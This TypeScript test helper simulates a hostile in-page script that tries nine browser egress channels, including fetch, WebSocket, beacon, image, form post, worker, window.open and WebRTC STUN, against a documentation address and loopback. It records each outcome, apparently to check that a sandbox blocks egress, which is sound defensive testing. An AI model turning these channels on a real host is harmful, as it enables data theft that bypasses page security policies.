/** One way a script tried to get out, and what came of it. */
export interface Tried {
  way: string;
  /** `sent` only when an answer came; whether a packet left is seen from outside. */
  outcome: 'sent' | 'refused' | 'silent';
}

/**
 * What a hostile script would do in the window. Runs in the page, so it uses nothing from outside itself. The
 * addresses are documentation's own (RFC 5737) and loopback.
 */
export async function hostile({ seconds }: { seconds: number }): Promise<Tried[]> {
  const away = 'http://192.0.2.7:8080/';
  const near = 'http://127.0.0.1:9/';
  const pause = (): Promise<'silent'> =>
    new Promise((resolve) => setTimeout(() => resolve('silent'), seconds * 1_000));
  const tryOut = async (way: string, act: () => Promise<'sent' | 'refused' | 'silent'>): Promise<Tried> => {
    try {
      return { way, outcome: await Promise.race([act(), pause()]) };
    } catch {
      return { way, outcome: 'refused' };
    }
  };
  const settles = (target: EventTarget, good: string, bad: string): Promise<'sent' | 'refused'> =>
    new Promise((resolve) => {
      target.addEventListener(good, () => resolve('sent'));
      target.addEventListener(bad, () => resolve('refused'));
    });
  const callOut = async (where: typeof globalThis): Promise<'silent'> => {
    const peer = new where.RTCPeerConnection({
      iceServers: [{ urls: 'stun:192.0.2.7:3478' }, { urls: 'stun:127.0.0.1:3478' }],
    });
    peer.createDataChannel('out');
    await peer.setLocalDescription(await peer.createOffer());
    return pause();
  };
  return Promise.all([
    tryOut('fetch', async () => {
      await Promise.any([fetch(away, { mode: 'no-cors' }), fetch(near, { mode: 'no-cors' })]);
      return 'sent';
    }),
    tryOut('WebSocket', () => settles(new WebSocket('ws://192.0.2.7:8080/'), 'open', 'error')),
    tryOut('beacon', async () => (navigator.sendBeacon(away, 'out') ? pause() : 'refused')),
    tryOut('image', () => {
      const image = new Image();
      const end = settles(image, 'load', 'error');
      image.src = `${away}picture.png`;
      return end;
    }),
    tryOut('form', () => {
      const form = document.createElement('form');
      form.action = away;
      form.method = 'post';
      document.body.append(form);
      form.submit();
      return pause();
    }),
    tryOut('worker', () => settles(new Worker(`${away}worker.js`), 'message', 'error')),
    tryOut('window.open', () => {
      const opened = window.open(away);
      return opened === null ? Promise.resolve('refused') : pause();
    }),
    tryOut('WebRTC', () => callOut(globalThis)),
    tryOut('WebRTC from an empty frame', () => {
      const frame = document.createElement('iframe');
      document.body.append(frame);
      const inside = frame.contentWindow as unknown as typeof globalThis | null;
      return inside === null ? Promise.resolve('refused') : callOut(inside);
    }),
  ]);
}
